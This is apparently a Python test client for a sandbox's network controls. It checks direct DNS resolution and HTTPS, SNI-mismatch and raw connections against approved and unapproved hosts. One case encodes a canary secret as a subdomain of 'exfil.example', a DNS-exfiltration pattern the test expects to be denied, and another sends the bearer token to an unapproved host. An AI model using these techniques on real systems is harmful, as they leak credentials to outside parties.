# A client that ignores the proxy variables: it resolves through the
# namespace's resolver (127.0.0.1:53, one A query over UDP) and connects
# directly, as a program with its own resolver and sockets does. Each
# line it prints is "<case> <outcome>".
import os, socket, ssl, struct, sys

def resolve(name):
    q = struct.pack(">HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    q += b"\0" + struct.pack(">HH", 1, 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(10)
    s.sendto(q, ("127.0.0.1", 53))
    r = s.recv(512)
    rcode = r[3] & 0x0F
    if rcode != 0 or struct.unpack(">H", r[6:8])[0] == 0:
        return None, rcode
    return socket.inet_ntoa(r[-4:]), rcode

def https(case, name, ip, port, sni, token):
    ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    try:
        with socket.create_connection((ip, port), timeout=20) as raw:
            with ctx.wrap_socket(raw, server_hostname=sni) as s:
                s.sendall(("GET /v1 HTTP/1.1\r\nHost: %s:%d\r\nAuthorization: Bearer %s\r\nConnection: close\r\n\r\n" % (name, port, token)).encode())
                data = b""
                while True:
                    b = s.recv(65536)
                    if not b:
                        break
                    data += b
        head = data.split(b"\r\n\r\n", 1)[0].decode(errors="replace")
        status = head.split(" ")[1]
        code = ""
        for line in head.split("\r\n"):
            if line.lower().startswith("x-hostkit-error:"):
                code = line.split(":", 1)[1].strip()
        print(case, "status=" + status, "code=" + code, flush=True)
    except Exception as e:
        print(case, "error=" + type(e).__name__, flush=True)

def raw(case, ip, port):
    try:
        with socket.create_connection((ip, port), timeout=20) as s:
            s.sendall(b"SSH-2.0-tclient\r\n")
            s.settimeout(20)
            b = s.recv(100)
            print(case, "read=%d" % len(b), flush=True)
    except Exception as e:
        print(case, "error=" + type(e).__name__, flush=True)

port = int(sys.argv[1])
token = os.environ["API_TOKEN"]
ip, rc = resolve("api.test")
print("resolve-api", "ip=%s" % ip, flush=True)
ip2, _ = resolve("other.test")
print("resolve-other", "ip=%s" % ip2, flush=True)
_, rc = resolve("c2stQ0FOQVJZ.exfil.example")
print("resolve-denied", "rcode=%d" % rc, flush=True)
https("approved", "api.test", ip, port, "api.test", token)
https("elsewhere", "other.test", ip2, port, "other.test", token)
https("sni-mismatch", "api.test", ip, port, "other.test", token)
raw("raw", ip, port)
print("done", flush=True)
